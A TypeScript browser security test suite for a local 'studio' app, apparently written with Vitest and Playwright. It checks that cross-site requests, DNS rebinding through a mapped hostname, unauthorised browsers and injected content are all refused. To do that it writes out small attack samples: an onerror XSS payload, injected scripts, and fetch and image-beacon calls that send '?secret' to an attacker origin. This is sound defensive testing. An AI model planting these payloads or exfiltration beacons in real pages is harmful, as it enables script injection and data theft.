// A page that means harm, in a real browser in which the studio is open: it guesses the port, embeds, connects, reads,
// and comes under another name. And the studio's own page, asked to run what was slipped into it.
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium } from 'playwright-core';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dropFolder, hasBrowser, newDataFolder, startHost } from './studio.testkit.ts';
import type { Host } from './studio.testkit.ts';

describe.skipIf(!hasBrowser)('an attack from the browser', () => {
  let host: Host;
  let folder: string;
  let evil: Server;
  let browser: Browser;
  let context: BrowserContext;
  let studio: Page;
  let origin: string;
  const evilOrigin = (): string => `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;

  beforeAll(async () => {
    folder = await newDataFolder();
    host = await startHost(folder);
    evil = createServer((_request, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end('<!doctype html><title>evil</title><body>');
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    browser = await chromium.launch({
      executablePath: process.env['SPATEXT_CHROMIUM'] ?? '/usr/bin/chromium',
      // rebound.test is a name of the attacker that has come to mean this machine.
      args: ['--no-sandbox', '--host-resolver-rules=MAP rebound.test 127.0.0.1'],
    });
    context = await browser.newContext();
    studio = await context.newPage();
    await studio.goto(host.address());
    await studio.getByText('palm tree').first().waitFor();
    origin = new URL(studio.url()).origin;
  });
  afterAll(async () => {
    await browser?.close();
    await host?.stop();
    evil?.close();
    if (folder) await dropFolder(folder);
  });

  it('by another site: no connection, no reading, no embedding, although the cookie is in this browser', async () => {
    const page = await context.newPage();
    await page.goto(evilOrigin());
    const got = await page.evaluate(async (target) => {
      const loads = (tag: 'img' | 'script' | 'iframe', url: string): Promise<string> =>
        new Promise((resolve) => {
          const element = document.createElement(tag);
          element.addEventListener('load', () => {
            // A refused frame "loads" the browser's error page; its own page would be readable by nobody either way.
            resolve('loaded');
          });
          element.addEventListener('error', () => resolve('refused'));
          element.src = url;
          document.body.append(element);
        });
      const socket = await new Promise<string>((resolve) => {
        const line = new WebSocket(`${target.replace('http', 'ws')}/api`);
        line.addEventListener('open', () => resolve('open'));
        line.addEventListener('close', () => resolve('refused'));
      });
      const read = await fetch(`${target}/`, { credentials: 'include' }).then(
        () => 'read',
        () => 'refused',
      );
      const blind = await fetch(`${target}/`, { credentials: 'include', mode: 'no-cors' }).then(
        () => 'sent',
        () => 'refused',
      );
      const script = await loads('script', `${target}/index.html`);
      return { socket, read, blind, script };
    }, origin);
    expect(got).toMatchObject({ socket: 'refused', read: 'refused', script: 'refused' });
    // What is sent blindly is refused by the host, and its answer is kept from the page.
    expect(['sent', 'refused']).toContain(got.blind);
    const answer = await page.evaluate((target) => {
      const frame = document.createElement('iframe');
      frame.src = target;
      document.body.append(frame);
      return new Promise<string>((resolve) => {
        frame.addEventListener('load', () => {
          try {
            resolve(frame.contentDocument?.body?.innerText ?? 'not readable');
          } catch {
            resolve('not readable');
          }
        });
      });
    }, origin);
    expect(answer).not.toContain('palm tree');
    expect(page.frames().some((frame) => frame.url() === `${origin}/`)).toBe(false);
    expect(host.log()).toContain('refused');
    await page.close();
  });

  it('under another name that means this machine (DNS rebinding)', async () => {
    const page = await context.newPage();
    const { port } = new URL(origin);
    const rebound = `http://rebound.test:${port}`;
    const response = await page.goto(`${rebound}/`);
    expect(response?.status()).toBe(403);
    expect(await page.content()).not.toContain('<script');
    // The attacker's page was loaded while the name still meant the attacker's machine.
    await page.route(`${rebound}/evil`, (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>evil</title><body>' }),
    );
    await page.goto(`${rebound}/evil`);
    const got = await page.evaluate(async () => {
      const socket = await new Promise<string>((resolve) => {
        const line = new WebSocket(`ws://${location.host}/api`);
        line.addEventListener('open', () => resolve('open'));
        line.addEventListener('close', () => resolve('refused'));
      });
      const read = (path: string): Promise<number | string> =>
        fetch(path).then(
          (answer) => answer.status,
          // Newer browsers keep pages of elsewhere from this machine by themselves.
          () => 'blocked',
        );
      return { socket, page: await read('/'), guess: await read('/?token=guess') };
    });
    expect(got.socket).toBe('refused');
    for (const answer of [got.page, got.guess]) expect([403, 'blocked']).toContain(answer);
    await page.close();
  });

  it('by a browser that was never let in', async () => {
    const stranger = await browser.newContext();
    const page = await stranger.newPage();
    expect((await page.goto(origin))?.status()).toBe(403);
    expect((await page.goto(host.address()))?.status()).toBe(403);
    expect(await page.innerText('body')).toContain('new address');
    await stranger.close();
  });

  it('from within: what is slipped into the page neither runs nor reports home', async () => {
    const violations: string[] = [];
    await studio.exposeFunction('violated', (what: string) => violations.push(what));
    const result = await studio.evaluate(async (elsewhere) => {
      document.addEventListener('securitypolicyviolation', (event) => {
        const report = (window as unknown as { violated: (what: string) => void }).violated;
        report(event.effectiveDirective);
      });
      const marks = window as unknown as Record<string, unknown>;
      const holder = document.createElement('div');
      document.body.append(holder);
      holder.innerHTML = '<img src="x" onerror="window.ranHandler = true">';
      const inline = document.createElement('script');
      inline.textContent = 'window.ranInline = true';
      document.body.append(inline);
      const foreign = document.createElement('script');
      foreign.src = `${elsewhere}/x.js`;
      document.body.append(foreign);
      const form = document.createElement('form');
      form.action = elsewhere;
      document.body.append(form);
      form.submit();
      const frame = document.createElement('iframe');
      frame.src = elsewhere;
      document.body.append(frame);
      // In a task of its own: what a debugger evaluates is exempt from the policy.
      const evaluated = await new Promise<boolean>((resolve) => {
        setTimeout(() => {
          try {
            // oxlint-disable-next-line no-implied-eval, no-new-func
            resolve(new Function('return true')() as boolean);
          } catch {
            resolve(false);
          }
        }, 0);
      });
      const sent = await fetch(`${elsewhere}/?secret`).then(
        () => true,
        () => false,
      );
      const beacon = new Image();
      beacon.src = `${elsewhere}/?secret`;
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { handler: marks['ranHandler'], inline: marks['ranInline'], evaluated, sent, shown: beacon.naturalWidth };
    }, evilOrigin());
    expect(result).toEqual({ handler: undefined, inline: undefined, evaluated: false, sent: false, shown: 0 });
    for (const directive of [
      'script-src-attr',
      'script-src-elem',
      'connect-src',
      'img-src',
      'frame-src',
      'form-action',
    ])
      expect(violations).toContain(directive);
    expect(studio.url()).toBe(`${origin}/`);
  });

  it('leaves the studio working, with nothing refused that it needs', async () => {
    const page = await context.newPage();
    const trouble: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error') trouble.push(message.text());
    });
    page.on('pageerror', (error) => trouble.push(error.message));
    await page.goto(origin);
    await page.getByText('palm tree').first().waitFor();
    await page.keyboard.press('Control+k');
    await page.getByRole('dialog').waitFor();
    await page.keyboard.press('Escape');
    await page.waitForTimeout(500);
    expect(trouble).toEqual([]);
    expect(await page.evaluate(() => globalThis.crossOriginIsolated)).toBe(true);
    await page.close();
  });
});
